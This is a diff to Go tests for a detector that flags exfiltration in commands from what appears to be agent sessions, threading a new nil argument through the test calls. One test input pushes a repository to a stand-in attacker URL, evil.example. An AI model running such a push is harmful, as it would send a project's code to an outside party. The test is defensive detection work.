@@ -105,7 +105,7 @@ func TestExfiltrationOf(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.cmd, func(t *testing.T) {
-			got := exfiltrationOf(tt.cmd, remotesOf(&provenance.SessionPredicate{Repo: origin}))
+			got := exfiltrationOf(tt.cmd, remotesOf(&provenance.SessionPredicate{Repo: origin}, nil), nil)
 			joined := strings.Join(got, "; ")
 			switch {
 			case tt.want == "" && len(got) > 0:
@@ -121,11 +121,11 @@ func TestExfiltrationOf(t *testing.T) {
 // recorded cannot judge a push to a remote name, but a push to a URL is
 // still reported.
 func TestGitPushWithoutRecordedRemotes(t *testing.T) {
-	none := remotesOf(&provenance.SessionPredicate{})
-	if got := exfiltrationOf("git push mirror main", none); len(got) != 0 {
+	none := remotesOf(&provenance.SessionPredicate{}, nil)
+	if got := exfiltrationOf("git push mirror main", none, nil); len(got) != 0 {
 		t.Errorf("push to a name with no recorded remotes: %q", got)
 	}
-	if got := exfiltrationOf("git push https://evil.example/x.git", none); len(got) != 1 || !strings.Contains(got[0], "records no remotes") {
+	if got := exfiltrationOf("git push https://evil.example/x.git", none, nil); len(got) != 1 || !strings.Contains(got[0], "records no remotes") {
 		t.Errorf("push to a URL with no recorded remotes: %q", got)
 	}
 }
@@ -283,7 +283,7 @@ func FuzzExfiltrationOf(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
-		exfiltrationOf(s, remotesOf(&provenance.SessionPredicate{Repo: origin}))
+		exfiltrationOf(s, remotesOf(&provenance.SessionPredicate{Repo: origin}, nil), nil)
 		MemoryKind(s)
 	})
 }
